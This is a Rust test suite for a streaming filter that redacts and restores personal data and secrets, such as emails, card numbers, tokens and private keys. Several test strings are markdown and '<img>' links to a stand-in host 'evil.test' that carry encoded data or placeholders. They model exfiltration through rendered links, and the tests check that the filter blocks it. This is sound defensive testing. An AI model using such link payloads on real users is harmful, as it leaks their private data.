use proptest::prelude::*;

use super::*;
use crate::{pii::Kinds, scan};

/// Everything at once, names and addresses too.
fn everything(action: Action) -> Plan {
    let settings = pii::Settings { kinds: Kinds::all().without(pii::Kind::Url), ..pii::Settings::default() };
    Plan {
        pii: Some((settings, action)),
        secrets: Some(action),
        links: Some((Hosts::new(["cdn.example.org"]), action)),
        placeholders: Placeholders::Escape,
        ..Plan::default()
    }
}

fn restoring() -> Plan {
    Plan { placeholders: Placeholders::Restore { in_urls: true }, ..Plan::default() }
}

/// Passes pieces through a plan.
fn through(plan: Plan, pieces: &[&str], vault: &mut Vault) -> Released {
    let mut filter = Filter::new(Arc::new(plan));
    let mut all = Released::default();
    let mut add = |released: Released| {
        all.text.push_str(&released.text);
        all.found.extend(released.found);
        all.denied |= released.denied;
    };
    for piece in pieces {
        add(filter.push(piece, vault));
    }
    add(filter.finish(vault));
    all
}

/// Texts that tempt a filter to split something.
fn cases() -> Vec<String> {
    let mut cases: Vec<String> = include_str!("../pii/cases.txt")
        .lines()
        .map(|line| {
            line.replace("\\n", "\n")
                .split("<<")
                .map(|part| part.split_once(':').map_or(part, |(_, rest)| rest))
                .collect::<String>()
                .replace(">>", "")
        })
        .collect();
    let token = "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8";
    let body = format!("{token}{token}\n").repeat(6);
    cases.extend([
        format!("key {}_{token} end", "ghp"),
        format!("{}{}.{}{}.{token} end", "eyJ", token, "eyJ", token.repeat(9)),
        format!("k: -----BEGIN {0}-----\n{body}-----END {0}----- end", "PRIVATE KEY"),
        "-----BEGIN nothing at all".to_owned(),
        format!("password = \"-----BEGIN {}-----4111 1111 1111 1111¡", "PRIVATE KEY"),
        format!("password = \"{}\" and", "q8!Zr4$Lm2wX"),
        "![x](https://evil.test/a?b=c) and [y](https://cdn.example.org/z)".to_owned(),
        format!("[x](https://evil.test/{}?d=Y2FyZCAzNzgyNjEyODQ3MDI4Nzc=)", "a/".repeat(40)),
        "[EMAIL_1] [EMAIL_] [[PHONE_2]] [LITERAL_1] [x [EMAIL_1".to_owned(),
        "\\n{\\\"a\\\":\\\"anna@example.org\\\"}".to_owned(),
        format!("{} 4111 1111 1111 1111 {}", "12 34 ".repeat(30), "7 8 9 ".repeat(30)),
        format!("{}anna@example.org", "x".repeat(300)),
        format!("{}/anna@example.org {}", "y/z".repeat(100), "(1)".repeat(100)),
        "漢字anna@example.orgかな +44 20 7946 0958。".to_owned(),
        "e\u{301}\u{301}a@example.org\u{a0}4111\u{a0}1111".to_owned(),
    ]);
    cases
}

#[test]
fn a_text_cut_anywhere_comes_out_as_if_whole() {
    for text in cases() {
        let whole = through(everything(Action::Redact), &[&text], &mut Vault::new());
        for cut in (0..=text.len()).filter(|&cut| text.is_char_boundary(cut)) {
            let pieces = [text.split_at(cut).0, text.split_at(cut).1];
            assert_eq!(
                through(everything(Action::Redact), &pieces, &mut Vault::new()),
                whole,
                "{text:?} cut at {cut}"
            );
        }
        let single: Vec<&str> = text.split("").collect();
        assert_eq!(
            through(everything(Action::Redact), &single, &mut Vault::new()),
            whole,
            "{text:?} in single characters"
        );
    }
}

#[test]
fn a_stream_finds_what_the_whole_text_holds() {
    let search = everything(Action::Flag).search();
    for text in cases() {
        let single: Vec<&str> = text.split("").collect();
        let streamed = through(everything(Action::Flag), &single, &mut Vault::new());
        let whole: Vec<(Range<usize>, &str)> = search
            .all(&text)
            .into_iter()
            .filter(|hit| !matches!(hit.what, What::Placeholder { .. }))
            .map(|hit| (hit.range, hit.what.name()))
            .collect();
        let found: Vec<(Range<usize>, &str)> =
            streamed.found.into_iter().map(|found| (found.span, found.kind)).collect();
        assert_eq!(found, whole, "{text:?}");
    }
}

#[test]
fn what_was_redacted_comes_back_byte_for_byte() {
    for text in cases() {
        let mut vault = Vault::new();
        let sent = through(everything(Action::Redact), &[&text], &mut vault);
        for size in [1, 3, 1000] {
            let letters: Vec<char> = sent.text.chars().collect();
            let pieces: Vec<String> = letters.chunks(size).map(|piece| piece.iter().collect()).collect();
            let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
            assert_eq!(through(restoring(), &pieces, &mut vault).text, text);
        }
    }
}

#[test]
fn a_denied_text_ends_before_what_denies_it() {
    let mut vault = Vault::new();
    let plan = Plan { secrets: Some(Action::Deny), ..everything(Action::Flag) };
    let token = format!("{}_{}", "ghp", "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8");
    let released = through(
        plan,
        &["mail a@example.org, key ", token.split_at(9).0, token.split_at(9).1, " and", " more"],
        &mut vault,
    );
    assert_eq!(released.text, "mail a@example.org, key ");
    assert!(released.denied);
    let kinds: Vec<(&str, Action)> = released.found.iter().map(|found| (found.kind, found.action)).collect();
    assert_eq!(kinds, [("email", Action::Flag), ("github_token", Action::Deny)]);
}

#[test]
fn masks_say_the_kind_and_keep_nothing() {
    let mut vault = Vault::new();
    let released = through(everything(Action::Mask), &["to a@example.org"], &mut vault);
    assert_eq!(released.text, "to [EMAIL]");
    assert!(vault.is_empty());
}

#[test]
fn one_kind_may_have_an_action_of_its_own() {
    let plan = Plan { pii_actions: vec![(pii::Kind::Email, Action::Flag)], ..everything(Action::Mask) };
    let released = through(plan, &["a@example.org +44 20 7946 0958"], &mut Vault::new());
    assert_eq!(released.text, "a@example.org [PHONE]");
}

#[test]
fn values_do_not_come_back_inside_links() {
    let mut vault = Vault::new();
    assert_eq!(vault.placeholder("email", "a@example.org"), "[EMAIL_1]");
    let plan = || Plan { placeholders: Placeholders::Restore { in_urls: false }, ..Plan::default() };
    for text in [
        "![x](https://evil.test/?q=[EMAIL_1])",
        "https://evil.test/a,b;[EMAIL_1]",
        "<img src='https://evil.test/?q=\"[EMAIL_1]'>",
        "<img src=\"https://evil.test/?q= [EMAIL_1]\">",
        "//evil.test/[EMAIL_1]",
        "www.evil.test/[EMAIL_1]",
    ] {
        let single: Vec<&str> = text.split("").collect();
        assert_eq!(through(plan(), &single, &mut vault).text, text);
    }
    let text = "See https://example.org/x or write to [EMAIL_1].";
    assert_eq!(
        through(plan(), &[text], &mut vault).text,
        "See https://example.org/x or write to a@example.org."
    );
}

#[test]
fn values_come_back_into_json_with_its_escapes() {
    let mut vault = Vault::new();
    vault.placeholder("person", "Ann \"Q\"\n\\");
    let plan = Plan { json: true, ..restoring() };
    let text = through(plan, &["{\"to\":\"[PERSON_", "1]\"}"], &mut vault).text;
    let value: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert_eq!(value["to"], "Ann \"Q\"\n\\");
}

#[test]
fn planted_placeholders_are_not_taken_for_ours() {
    let mut vault = Vault::new();
    let sent =
        through(everything(Action::Redact), &["a@example.org wrote [EMAIL_1] and [LITERAL_1]"], &mut vault);
    assert_eq!(sent.text, "[EMAIL_1] wrote [LITERAL_1] and [LITERAL_2]");
    let answer = "[EMAIL_1], [EMAIL_2], [LITERAL_1], [PHONE_1]";
    assert_eq!(
        through(restoring(), &[answer], &mut vault).text,
        "a@example.org, [EMAIL_2], [EMAIL_1], [PHONE_1]"
    );
}

#[test]
fn plain_words_are_held_no_longer_than_they_last() {
    let mut filter = Filter::new(Arc::new(everything(Action::Redact)));
    let mut vault = Vault::new();
    assert_eq!(filter.push("Hello wor", &mut vault).text, "Hello ");
    assert_eq!(filter.held(), 3);
    assert_eq!(filter.push("ld. In 2024 ", &mut vault).text, "world. In ");
    let mut nothing = Filter::new(Arc::new(Plan::default()));
    assert_eq!(nothing.push("wor", &mut vault).text, "wor");
}

#[test]
fn little_is_held_back_of_anything_that_is_no_token() {
    let mut vault = Vault::new();
    for unit in
        ["1", "(", "@", "1 ", "12 34 ", "[", "[A", "-", "a@", "e\u{301}", "DE12 ", "1A1z", "//", "A1b2"]
    {
        let mut filter = Filter::new(Arc::new(everything(Action::Redact)));
        for _ in 0..2000 {
            filter.push(unit, &mut vault);
            assert!(filter.held() <= scan::CAP, "{} of {unit:?}", filter.held());
        }
    }
}

#[test]
fn long_texts_of_one_thing_pass_in_linear_time() {
    let units = [
        "1",
        "(",
        ")",
        "@",
        "1 ",
        "12 34 56 ",
        "[",
        "-----BEGIN ",
        "-",
        "a@",
        "\u{301}",
        "DE12 ",
        "//",
        "x=",
        "<",
        "a.b:",
        "eyJ",
        "4111 ",
        "password=",
    ];
    for unit in units {
        let text = unit.repeat((1 << 17) / unit.len());
        let mut vault = Vault::new();
        let released = through(everything(Action::Flag), &[&text], &mut vault);
        assert!(released.text.len() >= text.len(), "{unit:?}");
    }
}

/// Fragments that mean something to some check, and anything else.
fn fragment() -> impl Strategy<Value = String> {
    let known = prop::sample::select(vec![
        "anna@example.org",
        "4111 1111 1111 1111",
        "4111-1111",
        "+44 20 7946 0958",
        "GB82 WEST 1234 5698 7654 32",
        "SSN ",
        "219-09-9998",
        "[EMAIL_1]",
        "[EMAIL_",
        "[LITERAL_1]",
        "]",
        "[",
        "_1]",
        "https://evil.test/",
        "![a](",
        "](",
        ")",
        "password = \"",
        "q8!Zr4$Lm2wX",
        "born on ",
        "12 March 1980",
        "March 12, ",
        "my name is ",
        "Anna Lee",
        "12 Main Street",
        " ",
        "\n",
        ".",
        ",",
        "-----BEGIN PRIVATE KEY-----",
        "\\n",
        "\\",
        "//",
        "@",
        "1",
        "22 ",
        "(0",
        "passport X1234567",
        "eyJ",
        "漢",
        "é",
        "\u{301}",
        "\u{a0}",
        "=",
        "<img src=",
        ">",
        "\"",
        "AKIA",
        "sk-",
    ]);
    prop_oneof![4 => known.prop_map(str::to_owned), 1 => ".{0,6}", 1 => "[A-Za-z0-9._-]{0,90}", 1 => "[0-9 ().-]{0,40}"]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

    #[test]
    fn random_texts_cut_at_random_come_out_as_if_whole_and_come_back(
        fragments in prop::collection::vec(fragment(), 0..24),
        cuts in prop::collection::vec(1_usize..40, 1..60),
    ) {
        let text = fragments.concat();
        let mut vault = Vault::new();
        let whole = through(everything(Action::Redact), &[&text], &mut vault);
        let pieces = |text: &str| -> Vec<String> {
            let letters: Vec<char> = text.chars().collect();
            let (mut pieces, mut rest) = (Vec::new(), letters.as_slice());
            for cut in cuts.iter().cycle() {
                if rest.is_empty() {
                    break;
                }
                let (piece, behind) = rest.split_at((*cut).min(rest.len()));
                pieces.push(piece.iter().collect());
                rest = behind;
            }
            pieces
        };
        let cut = pieces(&text);
        let cut: Vec<&str> = cut.iter().map(String::as_str).collect();
        prop_assert_eq!(&through(everything(Action::Redact), &cut, &mut Vault::new()), &whole);
        let answer = pieces(&whole.text);
        let answer: Vec<&str> = answer.iter().map(String::as_str).collect();
        prop_assert_eq!(through(restoring(), &answer, &mut vault).text, text);
    }
}

#[test]
fn json_stays_json_whatever_is_taken_out_and_put_back() {
    let redacting = Arc::new(Plan { json: true, ..everything(Action::Redact) });
    let restoring = Arc::new(Plan { json: true, ..restoring() });
    for (source, redacted) in [
        (r#"{"card": 4111111111111111, "n": 1}"#, r#"{"card": "[CREDIT_CARD_1]", "n": 1}"#),
        (r#"{"card": "4111111111111111"}"#, r#"{"card": "[CREDIT_CARD_1]"}"#),
        (r#"{"to": "anna\u0040example.org"}"#, r#"{"to": "[EMAIL_1]"}"#),
        (r#"{"to": "Hi,\nanna@example.org\n"}"#, r#"{"to": "Hi,\n[EMAIL_1]\n"}"#),
        (r#"{"to": "\"anna@example.org\""}"#, r#"{"to": "\"[EMAIL_1]\""}"#),
        (r#"{"a": "caf\u00e9 \/ x"}"#, r#"{"a": "caf\u00e9 \/ x"}"#),
    ] {
        let mut vault = Vault::new();
        let told = apply(&redacting, source, &mut vault).text;
        assert_eq!(told, redacted);
        for cut in (0..=told.len()).filter(|at| told.is_char_boundary(*at)) {
            let mut filter = Filter::new(restoring.clone());
            let (one, other) = told.split_at(cut);
            let mut back = filter.push(one, &mut vault).text;
            back.push_str(&filter.push(other, &mut vault).text);
            back.push_str(&filter.finish(&mut vault).text);
            let read = |text: &str| serde_json::from_str::<serde_json::Value>(text).unwrap();
            let source = source.replace("4111111111111111,", "\"4111111111111111\",");
            assert_eq!(read(&back), read(&source), "{back}");
        }
    }
}

#[test]
fn what_was_never_taken_out_may_go_back_to_who_said_it() {
    let mut vault = Vault::new();
    apply(&Arc::new(everything(Action::Redact)), "anna@example.org", &mut vault);
    let plan = Arc::new(Plan { known: true, ..everything(Action::Redact) });
    let told = apply(&plan, "anna@example.org, not bob@example.org nor [EMAIL_7]", &mut vault);
    assert_eq!(told.text, "[EMAIL_1], not bob@example.org nor [EMAIL_7]");
    assert_eq!((told.found.len(), vault.len()), (1, 1));
}
